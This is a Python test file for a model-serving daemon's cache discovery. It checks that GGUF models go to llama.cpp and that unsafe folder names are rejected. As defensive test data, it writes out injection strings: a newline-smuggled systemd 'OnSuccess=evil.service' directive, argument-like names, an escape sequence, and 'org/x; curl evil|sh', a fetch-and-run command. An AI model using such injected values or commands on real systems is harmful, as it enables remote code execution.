"""Models found on disk are models only under names that the configuration could give them."""

from __future__ import annotations

import logging
from pathlib import Path

import pytest

from tests.estimate.files import LLAMA_8B, GiB, cached, model
from vllmd.config.types import Config, ModelConfig
from vllmd.daemon.discovery import with_discovered
from vllmd.hub import discover


def test_gguf_files_are_for_llama_cpp(tmp_path: Path) -> None:
    """vLLM, whose the defaults are, would not load them; what is configured for that kind holds for them."""
    model(cached(tmp_path, "org/tensors"), LLAMA_8B, BF16=GiB)
    (cached(tmp_path, "org/files-GGUF") / "files-Q4_K_M.gguf").write_bytes(b"GGUF")
    both = cached(tmp_path, "org/both")
    model(both, LLAMA_8B, BF16=GiB)
    (both / "both.gguf").write_bytes(b"GGUF")
    templates = {"llama.cpp": ModelConfig("", engine="llama.cpp", max_model_len=4096)}
    template = ModelConfig("", command=("/opt/vllm/bin/vllm",))
    found = with_discovered(Config(discover=True, template=template, templates=templates), tmp_path).models
    assert {name: (each.engine, each.max_model_len) for name, each in found.items()} == {
        "org/tensors": ("vllm", None), "org/both": ("vllm", None), "org/files-GGUF": ("llama.cpp", 4096),
    }  # fmt: skip
    assert found["org/files-GGUF"].command == ()


@pytest.mark.parametrize(
    "name", ["e\nOnSuccess=evil.service\nX=", "-trust-remote-code", "--etc--passwd", "a\x1b[31m", "x" * 201]
)
def test_a_folders_name_is_checked_as_a_configured_one(
    tmp_path: Path, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    """The engines' user writes that cache: a model's code could name a folder as it likes."""
    for each in ("org/good", name):
        model(cached(tmp_path, each), LLAMA_8B, BF16=GiB)
    with caplog.at_level(logging.WARNING):
        found = with_discovered(Config(discover=True), tmp_path)
    assert set(found.models) == {"org/good"}
    assert "is left out: it is not named like a repository" in caplog.text
    assert not any("\n" in record.getMessage() or "\x1b" in record.getMessage() for record in caplog.records)


def test_a_folder_that_is_no_repository_is_offered_to_nobody(tmp_path: Path) -> None:
    """`vllmctl list` says how to serve what is in the cache, in a line that is made to be pasted."""
    for each in ("org/good", "org/x; curl evil|sh", "org/..", "org/a\nb"):
        model(cached(tmp_path, each), LLAMA_8B, BF16=GiB)
    assert [one.name for one in discover(tmp_path)] == ["org/good"]
